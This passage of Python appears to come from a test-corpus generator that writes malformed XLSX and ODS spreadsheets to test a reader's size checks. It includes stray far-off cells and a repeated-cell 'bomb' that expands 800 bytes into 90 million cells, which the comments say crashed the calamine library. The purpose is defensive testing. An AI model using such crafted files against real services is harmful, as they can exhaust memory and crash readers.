            z.writestr(info.filename, data)
    tmp.unlink()


def _stray_row(row: str, ref: str, text: str = "x", attrs: str = "") -> str:
    """A ``<row r=row>`` holding one inline-text cell at ``ref``, both written as given
    (``attrs`` go before the cell's ``r=``; a text with edge spaces is kept as typed)."""
    space = ' xml:space="preserve"' if text != text.strip() else ""
    return (f'<row r="{row}"><c{attrs} r="{ref}" t="inlineStr"><is><t{space}>{text}</t></is>'
            "</c></row>")


def _with_stray_cell(p: Path, row: str, ref: str, text: str = "x") -> None:
    """The base tracker with one :func:`_stray_row` after its last row."""
    _with_sheet_xml(p, lambda x: x.replace("</sheetData>",
                                           _stray_row(row, ref, text) + "</sheetData>"))


def b_far_stray_cell(p: Path) -> None:
    # One cell at the last row and column Excel has: 2 KB on disk, 17 billion
    # cells if read as a rectangle (calamine aborted the process on it).
    _with_stray_cell(p, "1048576", "XFD1048576")


def b_far_cell_long_tag(p: Path) -> None:
    # A far cell whose tag starts more than 64 KiB before the end of a 1 MiB piece
    # of the decompressed sheet (a 70 KB made-up attribute before its r="ZZ20000"):
    # the streamed extent check must keep the whole tag, not let it go as a long text.
    def edit(x: str) -> str:
        head, tail = x.split("</sheetData>")
        rows, size, n = [], len(head.encode()), 100
        while size < (1 << 20) - 66_000:  # pad with small cells up to there
            row = _stray_row(str(n), f"F{n}")
            rows.append(row)
            size += len(row)
            n += 1
        far = _stray_row("20000", "ZZ20000", attrs=f' x="{"a" * 70_000}"')
        return head + "".join(rows) + far + "</sheetData>" + tail

    _with_sheet_xml(p, edit)


def b_far_cell_moved_sheet(p: Path) -> None:
    # The far cell of b_far_cell_wide in a sheet stored at xl/data/sheet1.xml: the
    # workbook's relationships lead readers there, so the extent check must go too.
    far = p.with_suffix(".far.xlsx")
    b_far_cell_wide(far)
    with zipfile.ZipFile(far) as src, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data, name = src.read(info), info.filename
            if name == "xl/worksheets/sheet1.xml":
                name = "xl/data/sheet1.xml"
            if name.endswith(".rels") or name == "[Content_Types].xml":
                data = data.replace(b"worksheets/sheet1.xml", b"data/sheet1.xml")
            z.writestr(name, data)
    far.unlink()


def b_far_cell_wide(p: Path) -> None:
    # A stray cell at ZZ20000: 702 columns x 20,000 rows (14 million cells). Its
    # row alone is unremarkable (under 100,000); only the product is too large.
    _with_stray_cell(p, "20000", "ZZ20000")


def b_far_cell_leading_zeros(p: Path) -> None:
    # A reference written with a leading zero (AB0400000 = AB400000): the row
    # has six significant digits in a seven-digit field.
    _with_stray_cell(p, "0400000", "AB0400000")


def b_far_row_tag(p: Path) -> None:
    # Only the <row> tag is far (999,999); its cell claims column Z of row 1.
    _with_stray_cell(p, "999999", "Z1")


def b_stray_cell_wide_nearby(p: Path) -> None:
    # A stray space at ZZ100: 702 columns x 100 rows, small enough to be read.
    _with_stray_cell(p, "100", "ZZ100", " ")


def b_stray_cell_nearby(p: Path) -> None:
    # A stray space typed at Z5000 (common): a 5,000 x 26 area, to be read.
    _with_stray_cell(p, "5000", "Z5000", " ")


_ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')


def _write_ods(p: Path, table_xml: str) -> None:
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} '
               'office:version="1.2"><office:body><office:spreadsheet>'
               f"{table_xml}</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:'
                'oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/'
                'vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path='
                '"content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet",
                   compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", manifest)


def _ods_cell(v: str, is_date: bool) -> str:
    if not v:
        return "<table:table-cell/>"
    if is_date:
        return (f'<table:table-cell office:value-type="date" office:date-value="{v}">'
                f"<text:p>{v}</text:p></table:table-cell>")
    return (f'<table:table-cell office:value-type="string"><text:p>{escape(v)}</text:p>'
            "</table:table-cell>")


def b_ods_libreoffice_edges(p: Path) -> None:
    # How LibreOffice writes a sheet: each row padded with repeated empty cells
    # to column AMJ (1024) and empty rows repeated to row 1,048,576. Legit.
    rows = ["<table:table-row>" + "".join(_ods_cell(v, False) for v in HEADER)
            + '<table:table-cell table:number-columns-repeated="1018"/></table:table-row>']
    for r in ROWS:
        rows.append("<table:table-row>" + "".join(_ods_cell(v, j in (2, 4))
                                                  for j, v in enumerate(r))
                    + '<table:table-cell table:number-columns-repeated="1018"/>'
                    "</table:table-row>")
    rows.append('<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
                'table:number-columns-repeated="1024"/></table:table-row>')
    _write_ods(p, f'<table:table table:name="Tracker">{"".join(rows)}</table:table>')


def b_ods_repeated_cells(p: Path) -> None:
    # 9,000 rows x 10,000 columns of "x" from one repeated cell: 800 bytes on
    # disk, 90 million cells (under calamine's own cap; it aborted the process).
    head = ("<table:table-row>" + "".join(_ods_cell(v, False) for v in HEADER)
            + "</table:table-row>")
    bomb = ('<table:table-row table:number-rows-repeated="9000"><table:table-cell '
            'table:number-columns-repeated="10000" office:value-type="string"><text:p>x</text:p>'
            "</table:table-cell></table:table-row>")
    _write_ods(p, f'<table:table table:name="Tracker">{head}{bomb}</table:table>')


def main(argv: list[str] | None = None) -> int:
    """Write the corpus into a folder and print what each file is."""
    if __package__ in (None, ""):  # run as a script: make "bad_inputs" importable
        sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from bad_inputs.cases import CASES, write_case

    args = sys.argv[1:] if argv is None else argv
    if not args:
        print(__doc__)
        return 2
    folder = Path(args[0])
    folder.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        if case.slow and "--with-slow" not in args:
            continue
        write_case(case, folder)
        print(f"{case.filename:32} {case.outcome:6} {case.doc}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
